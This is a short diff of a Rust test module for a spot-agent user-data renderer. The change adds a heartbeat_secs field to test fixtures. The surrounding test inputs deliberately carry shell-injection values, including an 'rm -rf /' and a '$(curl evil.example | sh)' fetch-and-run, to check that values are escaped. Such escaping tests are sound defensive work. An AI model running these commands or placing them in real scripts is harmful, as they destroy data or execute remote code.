@@ -78,6 +78,7 @@ mod tests {
             run_id: "run'\"; rm -rf / #".into(),
             api_url: "http://api.example/$(curl evil.example | sh)`id`".into(),
             secret: "line one\nline two\r\n\"quoted\" 'single' $HOME \\ ${PATH}".into(),
+            heartbeat_secs: 5,
         };
         let user_data = render(&boot, "https://agents.example/spot-agent?v=1&x=$(id)");
         assert_eq!(boot_from_user_data(&user_data), Some(boot.clone()));
@@ -101,6 +102,7 @@ mod tests {
                 run_id: "a".into(),
                 api_url: "b".into(),
                 secret: "c".into(),
+                heartbeat_secs: 0,
             },
             "",
         );
@@ -109,6 +111,7 @@ mod tests {
                 run_id: "x".into(),
                 api_url: "y".into(),
                 secret: "z".into(),
+                heartbeat_secs: 0,
             },
             "",
         );
